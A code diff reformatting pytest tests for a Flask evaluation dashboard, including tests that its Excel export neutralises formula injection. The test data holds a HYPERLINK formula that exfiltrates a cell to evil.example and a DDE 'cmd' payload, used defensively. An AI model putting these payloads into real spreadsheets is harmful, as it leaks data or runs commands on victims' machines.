@@ -96,7 +96,10 @@ def test_unknown_cycle_is_404(login_as: Any) -> None:
 def test_finance_sees_every_department(login_as: Any) -> None:
     html = login_as("finance").get("/dashboard/").get_data(as_text=True)
     assert "全部单位" in html
-    assert {s: _count(html, s) for s in ("draft", "self_scored", "dept_review", "finance_confirmation", "confirmed")} == {
+    assert {
+        s: _count(html, s)
+        for s in ("draft", "self_scored", "dept_review", "finance_confirmation", "confirmed")
+    } == {
         "draft": 3,
         "self_scored": 1,
         "dept_review": 1,
@@ -180,8 +183,16 @@ def test_average_days_per_stage_come_from_the_audit_log(app: Flask) -> None:
             (reviewer, "start_review", "self_scored", "dept_review", t0 + timedelta(days=5)),
         ):
             db.session.add(
-                AuditLog(evaluation_id=ev.id, actor_id=actor.id, actor_name=actor.name, role=actor.role,
-                         event=name, from_state=src, to_state=dst, created_at=at)
+                AuditLog(
+                    evaluation_id=ev.id,
+                    actor_id=actor.id,
+                    actor_name=actor.name,
+                    role=actor.role,
+                    event=name,
+                    from_state=src,
+                    to_state=dst,
+                    created_at=at,
+                )
             )
         db.session.commit()
         now = t0 + timedelta(days=9)
@@ -239,7 +250,7 @@ def test_dashboard_query_count_does_not_grow_with_rows(app: Flask) -> None:
 @pytest.mark.parametrize(
     ("value", "expected"),
     [
-        ("=HYPERLINK(\"http://x\",\"y\")", "'=HYPERLINK(\"http://x\",\"y\")"),
+        ('=HYPERLINK("http://x","y")', '\'=HYPERLINK("http://x","y")'),
         ("+1+2", "'+1+2"),
         ("-2", "'-2"),
         ("@SUM(A1)", "'@SUM(A1)"),
@@ -262,7 +273,9 @@ def _workbook(resp: Any) -> Any:
 def test_export_neutralises_formula_like_project_names(app: Flask, login_as: Any) -> None:
     evil = '=HYPERLINK("http://evil.example/steal?x="&A1,"点击查看")'
     with app.app_context():
-        project = db.session.scalar(select(Project).where(Project.name == "一体化政务服务平台安全运维"))
+        project = db.session.scalar(
+            select(Project).where(Project.name == "一体化政务服务平台安全运维")
+        )
         assert project is not None
         project.name = evil
         unit = db.session.scalar(select(Org).where(Org.name == "江苏省政务服务中心"))
@@ -272,7 +285,9 @@ def test_export_neutralises_formula_like_project_names(app: Flask, login_as: Any
     wb = _workbook(login_as("finance").get("/dashboard/export.xlsx"))
     assert set(wb.sheetnames) == {"汇总", "等级分布", "逾期", "各阶段平均天数", "明细"}
     values = [c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row]
-    formulas = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.data_type == "f"]
+    formulas = [
+        c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.data_type == "f"
+    ]
     assert formulas == []
     assert "'" + evil in values
     assert "'@cmd|' /C calc'!A0" in values
